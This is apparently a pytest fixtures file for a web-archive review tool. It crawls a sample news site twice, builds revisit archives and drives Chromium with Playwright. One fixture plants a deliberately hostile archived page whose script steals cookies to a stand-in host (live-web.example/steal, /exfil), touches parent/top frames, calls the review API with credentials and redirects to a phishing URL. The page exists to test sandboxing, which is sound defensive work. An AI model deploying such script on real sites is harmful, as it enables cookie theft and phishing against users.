"""The review page over a real archive: two crawls of a copy of the sample site.

Between the crawls one paragraph of an article changes (for the diff) and a
hostile page appears: its scripts read cookies, reach for ``parent``/``top``,
call the review page's API and the live web. A ReviewServer serves the
result on 127.0.0.1 with a token; the browser is Debian's Chromium, driven by
Playwright with ``executable_path`` (no browser downloads).

``revisit_archive`` is an archive with revisits of both kinds and three versions
of one article (for restore, verify, captures, review and pywb): three crawls of
another copy, every article re-fetched each time; the second gets 304s (archived
as server-not-modified revisits), the third meets a server that ignores
validators and sends the same bytes again (identical-payload-digest revisits).
"""

from __future__ import annotations

import os
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from storage.catalog import Capture, Catalog
from storage.indexer import reindex
from storage.local import LocalStore
from tests.fixtures_site import free_port, run_cli, site_entry, write_config
from warcwire.demo import sample_site_root
from warcwire.review.archive import ReviewArchive
from warcwire.review.server import ReviewServer
from warcwire.site_server import BASE_URL_PLACEHOLDER, StaticSiteHandler, serve_site

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
ARTIFACTS = Path(__file__).parent / "artifacts"
TOKEN = "review-test-token"

CHANGED_ARTICLE = "/news/world/rotterdam-dock-strike-ends.html"
OLD_PARAGRAPH = ("Both sides said talks on automation at the newest terminals would continue "
                 "in the autumn.")
NEW_PARAGRAPH = ("Both sides said talks on automation would resume in September, with a "
                 "mediator appointed by the port authority.")
IMAGE_ARTICLE = "/news/turkey/us-taking-no-step-to-create-s400-working-group.html"
IMAGE = "/images/s400-red-square.png"
HOSTILE = "/news/world/harbour-festival-draws-record-crowds.html"
LIVE_WEB = "http://live-web.example"  # never resolvable here; must never be asked for
HOSTILE_MARKER = "hostile script ran"

HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Harbour festival draws record crowds | Northwind Daily</title>
<link rel="stylesheet" href="/css/site.css">
<script src="{live}/tracker.js"></script>
<script>
  console.log("{marker}");
  document.documentElement.setAttribute("data-pwned", "script ran");
  try {{ document.cookie = "stolen=1; path=/"; }} catch (e) {{}}
  try {{ new Image().src = "{live}/steal?c=" + escape(document.cookie); }} catch (e) {{}}
  try {{ parent.document.body.setAttribute("data-pwned", "parent"); }} catch (e) {{}}
  try {{ top.document.title = "PWNED"; }} catch (e) {{}}
  try {{ localStorage.setItem("pwned", "1"); }} catch (e) {{}}
  try {{ fetch("{ui}/api/search?q=dock", {{credentials: "include"}})
          .then(function (r) {{ return r.text(); }})
          .then(function (t) {{ document.title = "LEAKED " + t.length; }}); }} catch (e) {{}}
  try {{ fetch("{live}/exfil", {{method: "POST", body: "x"}}); }} catch (e) {{}}
  try {{ top.location.href = "{live}/phish"; }} catch (e) {{}}
</script>
</head>
<body onload="document.body.setAttribute('data-pwned', 'onload ran')">
<main class="container"><div class="content"><article class="news-article">
<h1 class="headline">Harbour festival draws record crowds</h1>
<div class="byline">By <span class="author">Staff reporter</span></div>
<div class="article-body">
<p>The harbour festival drew a record crowd of more than forty thousand visitors on Sunday,
organisers said, as tall ships and fishing boats filled the quays from early morning.</p>
<p>Stalls selling smoked herring, waffles and local cider ran out of stock by mid afternoon,
and the evening concert on the pier was moved indoors when the wind picked up.</p>
<p>The organisers said a quokka-shaped balloon that broke loose during the parade was later
found in a garden two kilometres inland, undamaged and rather admired by the neighbours.</p>
</div>
<img src="{live}/pixel.png" alt="" width="1" height="1">
</article></div></main>
</body>
</html>
"""


def hostile_html(ui_origin: str) -> str:
    return HOSTILE_PAGE.format(live=LIVE_WEB, ui=ui_origin, marker=HOSTILE_MARKER)


@dataclass
class ReviewSite:
    base: str  # base URL the crawls fetched (the served copy of the sample site)
    archive: Path
    database_url: str
    config: Path
    ui: str  # origin of the review page
    replay: str  # origin of the replay listener
    server: ReviewServer

    def url(self, path: str) -> str:
        return self.base + path

    def captures(self, path: str) -> list[Capture]:
        """Captures of the sample site's ``path``, oldest first."""
        return self.server.ui_app.archive.captures(self.url(path))

    def latest(self, path: str) -> Capture:
        return self.captures(path)[-1]


def _crawl(config: Path) -> None:
    result = run_cli("crawl", "sample-news", "--config", str(config))
    if result.returncode != 0:
        raise AssertionError(f"crawl failed:\n{result.stdout}\n{result.stderr[-3000:]}")


def _second_edition(site: Path, ui_origin: str) -> None:
    """What changed on the site between the two crawls."""
    article = site / CHANGED_ARTICLE.lstrip("/")
    text = article.read_text(encoding="utf-8")
    if OLD_PARAGRAPH not in text:
        raise AssertionError(f"sample article changed: {OLD_PARAGRAPH!r} is gone")
    article.write_text(text.replace(OLD_PARAGRAPH, NEW_PARAGRAPH), encoding="utf-8")
    (site / HOSTILE.lstrip("/")).write_text(
        hostile_html(ui_origin), encoding="utf-8")
    # as a real site does, the sitemap says the article changed
    sitemap = site / "sitemap-articles.xml"
    entry = f"<loc>{{{{BASE_URL}}}}{CHANGED_ARTICLE}</loc>\n    <lastmod>"
    xml = sitemap.read_text(encoding="utf-8")
    start = xml.index(entry) + len(entry)
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    sitemap.write_text(xml[:start] + now + xml[xml.index("</lastmod>", start):],
                       encoding="utf-8")
    index = site / "index.html"
    link = f'<li><a href="{HOSTILE}">Harbour festival draws record crowds</a></li>\n    </ol>'
    index.write_text(index.read_text(encoding="utf-8").replace("</ol>", link, 1),
                     encoding="utf-8")


@pytest.fixture(scope="session")
def review_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ReviewSite]:
    tmp = tmp_path_factory.mktemp("review")
    site = tmp / "htdocs"
    shutil.copytree(sample_site_root(), site)
    archive, data = tmp / "archive", tmp / "data"
    ui_port, replay_port = free_port(), free_port()
    ui_origin = f"http://127.0.0.1:{ui_port}"
    with serve_site(site) as base:
        config = write_config(tmp, [site_entry(base)], storage=str(archive),
                              data_dir=str(data))
        _crawl(config)
        _second_edition(site, ui_origin)
        time.sleep(1.0)  # captures are timestamped to the second
        _crawl(config)
    database_url = f"sqlite:///{data / 'warcwire.db'}"
    catalog = Catalog(database_url)
    store = LocalStore(archive)
    reindex(store, catalog)
    server = ReviewServer(ReviewArchive(catalog, store), host="127.0.0.1", port=ui_port,
                          replay_port=replay_port, token=TOKEN)
    with server:
        yield ReviewSite(base, archive, database_url, config, ui_origin,
                         f"http://127.0.0.1:{server.replay_port}", server)
    catalog.close()


THIRD_PARAGRAPH = ("Both sides said talks on automation would resume in October, with a "
                   "mediator appointed by the port authority and the city.")


class ValidatorBlindHandler(StaticSiteHandler):
    """The sample site; once ``blind`` is set, conditional requests get the whole 200,
    as from a server that does not support them."""

    blind: threading.Event

    def do_GET(self, head: bool = False) -> None:  # noqa: N802
        if self.blind.is_set():
            for name in ("If-None-Match", "If-Modified-Since"):
                del self.headers[name]
        super().do_GET(head=head)


@dataclass
class RevisitArchive:
    base: str
    site: Path  # the served folder, as it is after the last crawl
    archive: Path
    database_url: str
    config: Path
    runs: list[str]  # the three crawls' capture times (14 digits) of the edited article

    def url(self, path: str) -> str:
        return self.base + path

    def catalog(self) -> Catalog:
        return Catalog(self.database_url)

    def served(self, path: str) -> bytes:
        """What the site sends for ``path`` now (for unedited pages: what every crawl got)."""
        target = self.site / path.lstrip("/")
        target = target / "index.html" if target.is_dir() else target
        return target.read_bytes().replace(BASE_URL_PLACEHOLDER, self.base.encode())


def _edit(site: Path, old: str, new: str) -> None:
    article = site / CHANGED_ARTICLE.lstrip("/")
    text = article.read_text(encoding="utf-8")
    if old not in text:
        raise AssertionError(f"sample article changed: {old!r} is gone")
    article.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture(scope="session")
def revisit_archive(tmp_path_factory: pytest.TempPathFactory) -> RevisitArchive:
    tmp = tmp_path_factory.mktemp("revisits")
    site = tmp / "htdocs"
    shutil.copytree(sample_site_root(), site)
    archive, data = tmp / "archive", tmp / "data"
    blind = threading.Event()
    handler = type("BlindableSiteHandler", (ValidatorBlindHandler,), {"blind": blind})
    with serve_site(site, handler=handler) as base:
        config = write_config(tmp, [site_entry(base, revisit={"interval": 0})],
                              storage=str(archive), data_dir=str(data))
        _crawl(config)
        for old, new, blind_now in ((OLD_PARAGRAPH, NEW_PARAGRAPH, False),
                                    (NEW_PARAGRAPH, THIRD_PARAGRAPH, True)):
            time.sleep(1.0)  # captures are timestamped to the second
            _edit(site, old, new)
            if blind_now:
                blind.set()
            _crawl(config)
    database_url = f"sqlite:///{data / 'warcwire.db'}"
    catalog = Catalog(database_url)
    runs = [c.timestamp for c in catalog.captures(base + CHANGED_ARTICLE)]
    catalog.close()
    if len(runs) != 3:
        raise AssertionError(f"expected three captures of {CHANGED_ARTICLE}, got {runs}")
    return RevisitArchive(base, site, archive, database_url, config, runs)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    if not os.path.exists(CHROMIUM):
        pytest.fail(f"The review tests drive Debian's Chromium at {CHROMIUM}: "
                    "apt-get install -y chromium", pytrace=False)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser: Browser, review_site: ReviewSite) -> Iterator[Page]:
    """A logged-in tab of the review page, at a laptop's screen size."""
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    tab = context.new_page()
    tab.set_default_timeout(10_000)
    tab.goto(f"{review_site.ui}/?token={TOKEN}")
    yield tab
    context.close()


def screenshot(tab: Page, name: str) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / name
    tab.screenshot(path=str(path))
    return path
